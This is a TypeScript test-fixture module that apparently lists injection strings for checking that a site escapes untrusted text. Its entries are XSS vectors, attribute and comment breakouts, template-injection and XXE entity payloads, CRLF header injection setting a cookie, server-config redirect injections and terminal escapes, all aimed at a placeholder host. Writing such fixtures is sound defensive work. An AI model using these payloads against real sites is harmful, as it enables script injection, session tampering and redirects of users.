/** The host from which hostile texts would load something, and to which they would send something. It does not exist. */
export const hostileHost = 'hostile.example';

const run = 'hostile()';
const load = `https://${hostileHost}/`;
const raw = String.raw;

/**
 * Texts that would do something if they became markup, script, style or another line of a file: call the function `hostile`, or load
 * something from `hostileHost`. Grouped by what they try to break out of. The families are those of the well-known collections (OWASP's
 * on evading filters, PortSwigger's cheat sheet, html5sec); the texts are our own.
 */
export const hostileTexts: readonly string[] = [
  // Elements that run something by themselves.
  `<script>${run}</script>`,
  `<ScRiPt/hostile src=//${hostileHost}/1.js></sCrIpT >`,
  `<script type=module>import("${load}2.js")</script>`,
  `<img src=x onerror=${run}>`,
  `<img/src="x"/onerror="${run}"//`,
  `<IMG SRC=x\tONERROR\n=\n'${run}'>`,
  `<svg onload=${run}><circle r=9></svg>`,
  `<svg><animate attributeName=href begin=0s onbegin=${run} values=x></svg>`,
  `<svg><script href="${load}3.js"/></svg>`,
  `<svg><a><set attributeName=href to="javascript:${run}"/><text y=9>hostile</text></a></svg>`,
  `<math><mi xlink:href="javascript:${run}">hostile</mi></math>`,
  `<details open ontoggle=${run}><summary>hostile</summary></details>`,
  `<input autofocus onfocus=${run}>`,
  `<button popovertarget=h>hostile</button><div popover id=h onbeforetoggle=${run}>`,
  `<video><source onerror=${run}></video><audio src=x onerror=${run}>`,
  `<body onpageshow=${run} onhashchange=${run}>`,
  `<style>@keyframes h{}</style><b style="animation:h" onanimationstart=${run}>hostile</b>`,
  `<iframe srcdoc="&lt;script>parent.${run}&lt;/script>"></iframe>`,
  `<iframe src="javascript:parent.${run}"></iframe>`,
  `<object data="data:text/html,<script>opener.${run}</script>"></object><embed src="${load}4.swf">`,
  `<template shadowrootmode=open><img src=x onerror=${run}></template>`,
  // Elements that load something, or lead elsewhere.
  `<base href="${load}"><a href=5>hostile</a>`,
  `<meta http-equiv=refresh content="0;url=${load}6">`,
  `<link rel=stylesheet href=${load}7.css><link rel=prefetch href=${load}8>`,
  `<form action="${load}9"><button autofocus>hostile</button></form>`,
  `<a href="java\tscript:${run}">hostile</a><a href=" &#1;javascript:${run}">hostile</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5ob3N0aWxlKCk8L3NjcmlwdD4=">hostile</a>`,
  `<img srcset="${load}10.png 2x" src="${load}11.png" loading=eager>`,
  `<p style="background:url(${load}12.png)">hostile</p>`,
  // Out of an attribute.
  `" onmouseover="${run}" autofocus onfocus="${run}" hostile="`,
  `' onpointerenter='${run}' style='position:fixed;inset:0' hostile='`,
  `"><img src=x onerror=${run}>`,
  `'><svg/onload=${run}>`,
  '` onclick=`hostile()` hostile=`',
  `x onerror=${run} y`,
  // Out of an element whose content is text.
  `</title><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `</textarea></noscript></template></select><img src=x onerror=${run}>`,
  `</script><script>${run}</script>`,
  `</SCRIPT\t/><img src=x onerror=${run}>`,
  `<!--<script>`,
  `--><img src=x onerror=${run}><!--`,
  `--!><img src=x onerror=${run}>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
  // Out of a string of a script, or of JSON.
  `'-${run}-'`,
  `"-${run}-"`,
  raw`\'-${run}//`,
  raw`\"};${run};//`,
  `\${${run}}`,
  `\u2028${run}\u2029//`,
  raw`\u003cscript\u003e${run}\u003c/script\u003e`,
  raw`\x3cimg src=x onerror=${run}\x3e`,
  `*/${run}/*`,
  // Data of the framework, and what the build replaces in pages.
  `$& $\` $' $$ $1 $<hostile>`,
  `$undefined`,
  `$L1 $@1 $Q1 $1:props:children`,
  `,"hostile":"$undefined"`,
  `\n1:T9,hostile\n0:["$","script",null,{"src":"${load}13.js"}]\n`,
  `<div class="Body Flow"></div><template data-hostile></template></div>`,
  `<meta charSet="utf-8"/><meta name="runs-from" content="${load}"/>`,
  `</head><body data-framework="${load}14.js">`,
  `{"bodyHtml":"<img src=x onerror=${run}>"}`,
  // Markup of templates, of Markdown and of entities.
  `{{constructor.constructor('${run}')()}}`,
  `<%= ${run} %>`,
  `[hostile](javascript:${run}) ![](${load}15.png)`,
  `<${load}16> <javascript:${run}>`,
  '```\n</code></pre><img src=x onerror=hostile()>\n```',
  `\n---\nhostile: true\n---\n`,
  `\n# hostile\n\n| a | b |\n|---|---|\n`,
  `&lt;img src=x onerror=${run}&gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `＜script＞${run}＜/script＞`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  // Out of XML.
  `]]><script xmlns="http://www.w3.org/1999/xhtml">${run}</script>`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  `<?xml-stylesheet href="${load}17.xsl"?>`,
  `<!DOCTYPE h [<!ENTITY h SYSTEM "${load}18">]>&h;`,
  // Out of a style.
  `}*{background:url(${load}19.png)}`,
  `;@import '${load}20.css';`,
  // Another line of a header, of a log or of a file for a host.
  `\r\nSet-Cookie: hostile=1\r\n\r\n<script>${run}</script>`,
  `\n/* ${load}21 301!\n/*\n  Link: <${load}22.css>; rel=stylesheet`,
  `";\nreturn 301 ${load}23;\n#`,
  `"\n}\nredir ${load}24\n{$HOME} {env.HOME} \${HOME}`,
  `\u001b]8;;${load}25\u0007hostile\u001b]8;;\u0007\u001b[2J`,
  // Names that every object has.
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  // Texts that are shown in another order or width than they are stored in.
  `\u202Etpircs\u202C hostile \u2066\u2067`,
  'مرحبا hostile بالعالم <b>שלום</b>',
  '👩🏽‍💻🏳️‍🌈👨‍👩‍👧‍👦 hostile 🇸🇬',
  `Z${'\u0351\u0363\u036B\u035E'.repeat(2)}hostile`,
  `\u0000\u0008\uFFFE\uD800hostile\uDC00`,
];
